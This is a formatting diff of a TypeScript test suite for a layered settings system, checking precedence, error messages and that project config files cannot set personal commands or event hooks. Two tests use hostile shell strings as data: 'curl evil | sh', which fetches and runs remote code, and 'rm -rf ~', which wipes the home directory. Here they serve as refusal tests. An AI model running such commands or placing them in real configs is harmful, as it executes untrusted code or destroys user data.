@@ -13,7 +13,11 @@ const MODE = choice('RECALL_MODE', ['fast', 'exact'], 'fast', 'How');
 const COMMAND = personal(text('REFLECT_COMMAND', '', 'What to run'));
 const KNOBS = [DEPTH, WEIGHT, ARM, MODE, COMMAND];
 
-function world({ home = '', project = '', environment = {} }: { home?: string; project?: string; environment?: NodeJS.ProcessEnv } = {}) {
+function world({
+  home = '',
+  project = '',
+  environment = {},
+}: { home?: string; project?: string; environment?: NodeJS.ProcessEnv } = {}) {
   const folder = tempFolder();
   const file = join(folder, 'home', 'config.toml');
   const projectRoot = join(folder, 'project');
@@ -38,18 +42,34 @@ function refusal(work: () => unknown): string {
 
 describe('precedence', () => {
   test('call beats environment beats project beats home beats default', () => {
-    const { open, projectRoot } = world({ home: 'RECALL_DEPTH = 1\n', project: 'RECALL_DEPTH = 2\n', environment: { RECALL_DEPTH: '3' } });
+    const { open, projectRoot } = world({
+      home: 'RECALL_DEPTH = 1\n',
+      project: 'RECALL_DEPTH = 2\n',
+      environment: { RECALL_DEPTH: '3' },
+    });
     const layers = open();
-    expect(layers.state(DEPTH, { projectRoot, call: { RECALL_DEPTH: 4 } })).toMatchObject({ value: 4, source: 'call' });
+    expect(layers.state(DEPTH, { projectRoot, call: { RECALL_DEPTH: 4 } })).toMatchObject({
+      value: 4,
+      source: 'call',
+    });
     expect(layers.state(DEPTH, { projectRoot })).toMatchObject({ value: 3, source: 'environment' });
-    const { open: openQuiet, projectRoot: root } = world({ home: 'RECALL_DEPTH = 1\n', project: 'RECALL_DEPTH = 2\n' });
+    const { open: openQuiet, projectRoot: root } = world({
+      home: 'RECALL_DEPTH = 1\n',
+      project: 'RECALL_DEPTH = 2\n',
+    });
     expect(openQuiet().state(DEPTH, { projectRoot: root })).toMatchObject({ value: 2, source: 'project' });
     expect(openQuiet().state(DEPTH)).toMatchObject({ value: 1, source: 'home' });
-    expect(openQuiet().state(WEIGHT)).toMatchObject({ value: 0.5, source: 'default', default: 0.5, min: 0, max: 1 });
+    expect(openQuiet().state(WEIGHT)).toMatchObject({
+      value: 0.5,
+      source: 'default',
+      default: 0.5,
+      min: 0,
+      max: 1,
+    });
     expect(openQuiet().resolver({ projectRoot: root })(DEPTH)).toBe(2);
   });
 
-  test('an empty variable is not set, and what is not ours in the environment is nobody\'s business', () => {
+  test("an empty variable is not set, and what is not ours in the environment is nobody's business", () => {
     const settings = world({ environment: { RECALL_DEPTH: '', PATH: '/bin', RECALL_UNKNOWN: 'x' } }).open();
     expect(settings.state(DEPTH)).toMatchObject({ value: 50, source: 'default' });
   });
@@ -71,12 +91,16 @@ describe('refusals name the place and the knob', () => {
   });
 
   test('the environment', () => {
-    expect(refusal(() => world({ environment: { RECALL_DEPTH: '0' } }).open())).toMatch(/the environment: RECALL_DEPTH takes a whole number from 1 to 500, not "0"/);
+    expect(refusal(() => world({ environment: { RECALL_DEPTH: '0' } }).open())).toMatch(
+      /the environment: RECALL_DEPTH takes a whole number from 1 to 500, not "0"/,
+    );
   });
 
   test('the call, also for a name nobody knows', () => {
     const settings = world().open();
-    expect(refusal(() => settings.resolver({ call: { RECALL_WEIGHT: 2 } }))).toMatch(/the call: RECALL_WEIGHT takes a number from 0 to 1, not 2/);
+    expect(refusal(() => settings.resolver({ call: { RECALL_WEIGHT: 2 } }))).toMatch(
+      /the call: RECALL_WEIGHT takes a number from 0 to 1, not 2/,
+    );
     expect(refusal(() => settings.resolver({ call: { NOPE: 2 } }))).toMatch(/the call names NOPE/);
   });
 
@@ -88,9 +112,11 @@ describe('refusals name the place and the knob', () => {
   });
 });
 
-describe('a project\'s file', () => {
+describe("a project's file", () => {
   test('may not set what is personal: it is told, and the rest of the file counts', () => {
-    const { open, projectRoot } = world({ project: 'REFLECT_COMMAND = "curl evil | sh"\nRECALL_DEPTH = 2\n' });
+    const { open, projectRoot } = world({
+      project: 'REFLECT_COMMAND = "curl evil | sh"\nRECALL_DEPTH = 2\n',
+    });
     const settings = open();
     expect(settings.state(COMMAND, { projectRoot })).toMatchObject({ value: '', source: 'default' });
     expect(settings.state(DEPTH, { projectRoot })).toMatchObject({ value: 2, source: 'project' });
@@ -147,7 +173,9 @@ describe('setting', () => {
     const settings = open();
     writeFileSync(file, '# mine\nRECALL_DEPTH = 5\n\n# by hand\nRECALL_MODE = "exact"\n');
     settings.set('RECALL_WEIGHT', 0.25);
-    expect(readFileSync(file, 'utf8')).toBe('# mine\nRECALL_DEPTH = 5\n\n# by hand\nRECALL_MODE = "exact"\nRECALL_WEIGHT = 0.25\n');
+    expect(readFileSync(file, 'utf8')).toBe(
+      '# mine\nRECALL_DEPTH = 5\n\n# by hand\nRECALL_MODE = "exact"\nRECALL_WEIGHT = 0.25\n',
+    );
     expect(settings.resolver()(MODE)).toBe('exact');
     settings.set('RECALL_DEPTH', 6);
     expect(readFileSync(file, 'utf8')).toContain('# by hand');
@@ -180,12 +208,18 @@ describe('the table of events', () => {
     return { file, projectRoot, open: () => new Settings(file, {}, [...KNOBS, CREATED]) };
   };
 
-  test.each(['[events.on]\n"learning.created" = "say hi"', '[events.on]\nlearning.created = "say hi"', '[events.on.learning]\ncreated = "say hi"'])('%j is the setting of that event', (toml) => {
+  test.each([
+    '[events.on]\n"learning.created" = "say hi"',
+    '[events.on]\nlearning.created = "say hi"',
+    '[events.on.learning]\ncreated = "say hi"',
+  ])('%j is the setting of that event', (toml) => {
     expect(opened(toml).open().state(CREATED)).toMatchObject({ value: 'say hi', source: 'home' });
   });
 
   test('knows no other event, and nothing but commands by events', () => {
-    expect(refusal(opened('[events.on]\n"learning.eaten" = "x"').open)).toContain('REFLECT_EVENTS_ON_LEARNING_EATEN, which is no setting');
+    expect(refusal(opened('[events.on]\n"learning.eaten" = "x"').open)).toContain(
+      'REFLECT_EVENTS_ON_LEARNING_EATEN, which is no setting',
+    );
     expect(refusal(opened('[events]\nlater = 1').open)).toContain('[events.on] alone');
     expect(refusal(opened('[events.on]\n"learning.created" = 5').open)).toContain('takes a text');
   });
@@ -193,14 +227,19 @@ describe('the table of events', () => {
   test('of a project is refused: what runs here is for its owner to say', () => {
     const { open, projectRoot } = opened('', '[events.on]\n"learning.created" = "rm -rf ~"');
     const settings = open();
-    expect([settings.resolver({ projectRoot })(CREATED), settings.projectProblem(projectRoot)]).toEqual(['', expect.stringContaining('for your own configuration alone')]);
+    expect([settings.resolver({ projectRoot })(CREATED), settings.projectProblem(projectRoot)]).toEqual([
+      '',
+      expect.stringContaining('for your own configuration alone'),
+    ]);
   });
 
   test('stays as it is when another setting is changed', () => {
     const { file, open } = opened('RECALL_DEPTH = 1\n\n# mine\n[events.on]\n"learning.created" = "say hi"\n');
     const settings = open();
     settings.set('RECALL_DEPTH', 7);
-    expect(readFileSync(file, 'utf8')).toBe('# mine\nRECALL_DEPTH = 7\n\n[events.on]\n"learning.created" = "say hi"\n');
+    expect(readFileSync(file, 'utf8')).toBe(
+      '# mine\nRECALL_DEPTH = 7\n\n[events.on]\n"learning.created" = "say hi"\n',
+    );
     expect([settings.resolver()(DEPTH), settings.resolver()(CREATED)]).toEqual([7, 'say hi']);
   });
 });
